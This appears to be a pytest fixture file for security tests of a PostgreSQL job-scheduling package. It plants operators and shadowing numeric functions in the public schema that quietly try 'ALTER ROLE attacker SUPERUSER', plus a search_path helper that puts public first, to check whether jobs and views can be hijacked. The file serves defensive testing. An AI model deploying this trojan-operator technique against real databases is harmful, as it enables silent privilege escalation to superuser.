"""Fixtures for the security tests (issue 7): an attacker role that can create objects in
`public` and plants operators and functions there, and a helper that runs everything
bgjobs offers (every job, every view, the metrics functions) as a superuser and as the
viewer, collecting what failed instead of stopping at the first failure.

The planted code records each call twice: a row in public.attack_log (lost if the calling
statement fails) and a sequence step (non-transactional, so kept even then); then it tries
`ALTER ROLE attacker SUPERUSER`, swallowing any error, and returns the value the built-in
would have returned, so that nothing visibly breaks (a stealthy attacker)."""

from __future__ import annotations

import itertools

import psycopg
import pytest
from psycopg import sql as pgsql
from sinks import SmtpRelay

ATTACKER = "attacker"
NUMERIC_TYPES = ("smallint", "integer", "bigint", "numeric", "real", "double precision")
ARITHMETIC = ("+", "-", "*", "/")
COMPARISON = ("<", "<=", "=", "<>", ">=", ">")
# built-in functions commonly called with a numeric argument: planted in public for each
# argument type that pg_catalog has no exact signature for (there, the plant wins)
SHADOWED = {
    "round": 1, "trunc": 1, "floor": 1, "ceil": 1, "ceiling": 1, "abs": 1, "sign": 1, "sqrt": 1,
    "exp": 1, "ln": 1, "to_timestamp": 1, "power": 2, "mod": 2, "div": 2, "log": 2,
}
VIEWS = ("job_status", "healthcheck_summary", "job_success_rates", "job_alerts", "job_silences")


def _type_of(conn, expr: str) -> str | None:
    """The result type of an expression as pg_catalog alone resolves it (None: no match)."""
    try:
        with conn.transaction():
            conn.execute("SET LOCAL search_path TO pg_catalog, pg_temp")
            return conn.execute(f"SELECT pg_typeof({expr})::text").fetchone()[0]
    except psycopg.Error:
        return None


def _exact_builtin_operator(conn, op: str, left: str, right: str) -> bool:
    return conn.execute("SELECT count(*) FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace "
                        "AND oprname = %s AND oprleft = %s::regtype AND oprright = %s::regtype",
                        (op, left, right)).fetchone()[0] > 0


def _exact_builtin_function(conn, name: str, args: tuple[str, ...]) -> bool:
    sig = f"pg_catalog.{name}({', '.join(args)})"
    return conn.execute("SELECT to_regprocedure(%s) IS NOT NULL", (sig,)).fetchone()[0]


def plant_statements(conn) -> list[str]:
    """CREATE FUNCTION / CREATE OPERATOR statements for the attacker, generated against the
    server (conn: a superuser connection, used only to ask pg_catalog for result types).

    - every ordered pair of distinct numeric types, for + - * / and < <= = <> >= >
      (all 300 of them: where pg_catalog has the exact pair too, the plant wins only on a
      path that puts public first);
    - interval * n, n * interval, interval / n for the numeric types pg_catalog matches only
      through an implicit cast;
    - public.<f>(t) / public.<f>(t, t) for common numeric built-ins, where pg_catalog has no
      exact signature for t (so the plant is the better match)."""
    out = [
        f"""CREATE FUNCTION public.attack_hook(what text) RETURNS void
            LANGUAGE plpgsql SET search_path TO pg_catalog AS $f$
            BEGIN
              BEGIN PERFORM nextval('public.attack_calls'); EXCEPTION WHEN OTHERS THEN NULL; END;
              BEGIN
                INSERT INTO public.attack_log (at, what, cur_user, sess_user, backend)
                SELECT clock_timestamp(), what, current_user, session_user,
                       coalesce(nullif(a.application_name, ''), a.backend_type)
                  FROM pg_catalog.pg_stat_activity a WHERE a.pid = pg_catalog.pg_backend_pid();
              EXCEPTION WHEN OTHERS THEN NULL;
              END;
              BEGIN EXECUTE 'ALTER ROLE {ATTACKER} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
            END $f$"""
    ]
    n = itertools.count(1)

    def operator(op: str, left: str, right: str) -> None:
        ret = _type_of(conn, f"NULL::{left} OPERATOR(pg_catalog.{op}) NULL::{right}")
        if ret is None:
            return
        fn = f"public.atk_op_{next(n)}"
        what = f"{left} {op} {right}"
        out.append(f"""CREATE FUNCTION {fn}(a {left}, b {right}) RETURNS {ret}
            LANGUAGE plpgsql SET search_path TO pg_catalog AS $f$
            BEGIN
              PERFORM public.attack_hook('{what}');
              RETURN a OPERATOR(pg_catalog.{op}) b;
            END $f$""")
        out.append(f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn})")

    for left, right in itertools.permutations(NUMERIC_TYPES, 2):
        for op in ARITHMETIC + COMPARISON:
            operator(op, left, right)
    for t in NUMERIC_TYPES:
        for op, left, right in (("*", "interval", t), ("*", t, "interval"), ("/", "interval", t)):
            if not _exact_builtin_operator(conn, op, left, right):
                operator(op, left, right)

    for name, arity in SHADOWED.items():
        for t in NUMERIC_TYPES:
            args = (t,) * arity
            if _exact_builtin_function(conn, name, args):
                continue
            call = f"pg_catalog.{name}({', '.join(f'NULL::{a}' for a in args)})"
            ret = _type_of(conn, call)
            if ret is None:
                continue
            params = ", ".join(f"a{i} {a}" for i, a in enumerate(args))
            call_args = ", ".join(f"a{i}" for i in range(arity))
            out.append(f"""CREATE FUNCTION public.{name}({params}) RETURNS {ret}
                LANGUAGE plpgsql SET search_path TO pg_catalog AS $f$
                BEGIN
                  PERFORM public.attack_hook('{name}({', '.join(args)})');
                  RETURN pg_catalog.{name}({call_args});
                END $f$""")
    return out


class Attacker:
    """An attacker planted in one database; `calls()` and `is_superuser()` tell the outcome."""

    def __init__(self, admin_dsn: str, attacker_dsn: str):
        self.admin_dsn = admin_dsn
        self.attacker_dsn = attacker_dsn
        self.planted = 0

    def plant(self) -> int:
        with psycopg.connect(self.admin_dsn, autocommit=True) as su:
            su.execute("CREATE TABLE IF NOT EXISTS public.attack_log "
                       "(at timestamptz, what text, cur_user name, sess_user name, backend text)")
            su.execute("GRANT INSERT ON public.attack_log TO PUBLIC")
            su.execute("CREATE SEQUENCE IF NOT EXISTS public.attack_calls")
            su.execute("GRANT USAGE, UPDATE ON SEQUENCE public.attack_calls TO PUBLIC")
            su.execute(pgsql.SQL("GRANT CREATE ON SCHEMA public TO {}").format(pgsql.Identifier(ATTACKER)))
            statements = plant_statements(su)
        with psycopg.connect(self.attacker_dsn, autocommit=True) as a:
            assert a.execute("SELECT current_user").fetchone()[0] == ATTACKER
            with a.transaction():
                for stmt in statements:
                    a.execute(stmt)
            self.planted = a.execute(
                "SELECT count(*) FROM pg_operator WHERE oprowner = current_user::regrole").fetchone()[0]
        return self.planted

    def calls(self) -> tuple[int, list[tuple]]:
        """(sequence steps taken, attack_log rows): both 0 / [] if no planted code ever ran."""
        with psycopg.connect(self.admin_dsn, autocommit=True) as su:
            last, called = su.execute("SELECT last_value, is_called FROM public.attack_calls").fetchone()
            rows = su.execute("SELECT at, what, cur_user, sess_user, backend FROM public.attack_log ORDER BY at").fetchall()
        return (last if called else 0), rows

    def is_superuser(self) -> bool:
        with psycopg.connect(self.admin_dsn, autocommit=True) as su:
            return su.execute("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (ATTACKER,)).fetchone()[0]

    def verdict(self) -> str | None:
        """None when the attack failed; else what it achieved, for an assertion message."""
        steps, rows = self.calls()
        su = self.is_superuser()
        if not steps and not rows and not su:
            return None
        seen = sorted({f"{r[1]} as {r[2]} (session {r[3]}, {r[4]})" for r in rows})
        return (f"planted code ran {steps} time(s); attacker is {'now' if su else 'not'} a superuser; "
                f"calls: {'; '.join(seen[:12])}{' ...' if len(seen) > 12 else ''}")


@pytest.fixture
def attacker_role(pg_server):
    """The login role `attacker` (NOSUPERUSER); dropped, with what it owns, afterwards."""
    dbs: list[str] = []
    with pg_server.admin() as c:
        c.execute(f"CREATE ROLE {ATTACKER} LOGIN NOSUPERUSER PASSWORD 'pw'")
    yield dbs
    drop_attacker(pg_server, dbs)


def drop_attacker(pg_server, dbs: list[str]) -> None:
    for name in dbs:
        try:
            with psycopg.connect(pg_server.dsn(name), autocommit=True) as c:
                c.execute(f"DROP OWNED BY {ATTACKER} CASCADE")
        except psycopg.OperationalError:
            pass                                   # database already dropped
    with pg_server.admin() as c:
        c.execute(f"DROP OWNED BY {ATTACKER} CASCADE")
        c.execute(f"DROP ROLE IF EXISTS {ATTACKER}")


def make_attacker(pg_server, dbname: str, dbs: list[str]) -> Attacker:
    from psycopg.conninfo import make_conninfo

    dbs.append(dbname)
    dsn = pg_server.dsn(dbname)
    return Attacker(dsn, make_conninfo(dsn, user=ATTACKER, password="pw"))


@pytest.fixture
def attacker(attacker_role, pg_server, db):
    """An Attacker for the per-test database `db` (not yet planted: call .plant())."""
    from psycopg.conninfo import conninfo_to_dict

    return make_attacker(pg_server, conninfo_to_dict(db)["dbname"], attacker_role)


def hostile_dsn(dsn: str) -> str:
    """The DSN with a session search_path that puts public before pg_catalog."""
    from psycopg.conninfo import make_conninfo

    return make_conninfo(dsn, options="-c search_path=public,pg_catalog")


def run_everything(dsn: str, scheduled_entry: bool = True) -> list[str]:
    """Every job (run_job, and the pg_cron entry procedure), every view, job_metrics() and
    job_metrics_prometheus() as the superuser of `dsn`; then the views and metrics as
    bgjobs_viewer (SET ROLE).  Returns '<step>: <error>' for each step that failed."""
    errors: list[str] = []
    with psycopg.connect(dsn, autocommit=True) as c:
        def step(what: str, query: str, *params) -> None:
            try:
                cur = c.execute(query, params or None)
                if cur.description:
                    cur.fetchall()
            except psycopg.Error as exc:
                errors.append(f"{what}: {str(exc).strip().splitlines()[0]}")

        jobs = [r[0] for r in c.execute("SELECT job_name FROM bgjobs.job_registry ORDER BY job_name").fetchall()]
        assert jobs, "no registered jobs"
        for job in jobs:
            try:
                resp = c.execute("SELECT run_job(%s)", (job,)).fetchone()[0]
                if not resp.get("success", False) and resp.get("skipped") is None:
                    errors.append(f"run_job({job}): {resp.get('error')}")
            except psycopg.Error as exc:
                errors.append(f"run_job({job}): {str(exc).strip().splitlines()[0]}")
        if scheduled_entry:
            for job in jobs:
                step(f"CALL run_scheduled_job({job})", "CALL bgjobs.run_scheduled_job(%s)", job)
        for view in VIEWS:
            step(f"superuser SELECT {view}", f"SELECT * FROM public.{view}")
        step("superuser job_metrics()", "SELECT * FROM public.job_metrics()")
        step("superuser job_metrics_prometheus()", "SELECT public.job_metrics_prometheus()")
        c.execute("SET ROLE bgjobs_viewer")
        try:
            for view in VIEWS:
                step(f"viewer SELECT {view}", f"SELECT * FROM public.{view}")
            step("viewer SELECT count(*) FROM job_success_rates", "SELECT count(*) FROM public.job_success_rates")
            step("viewer job_metrics()", "SELECT * FROM public.job_metrics()")
            step("viewer job_metrics_prometheus()", "SELECT public.job_metrics_prometheus()")
        finally:
            c.execute("RESET ROLE")
    return errors


@pytest.fixture
def smtp_sink():
    """A loopback relay that accepts every message (delivery succeeds)."""
    relay = SmtpRelay().start()
    yield relay
    relay.stop()


def load_demo_data(dsn: str) -> None:
    """A small slice of the demo data set: every job then has rows to work on."""
    from bgjobs import demodata

    with psycopg.connect(dsn, autocommit=True) as c:
        demodata.load(c, tenants=3, tasks_per_tenant=20, seed=7, recent_overdue_pct=20.0)
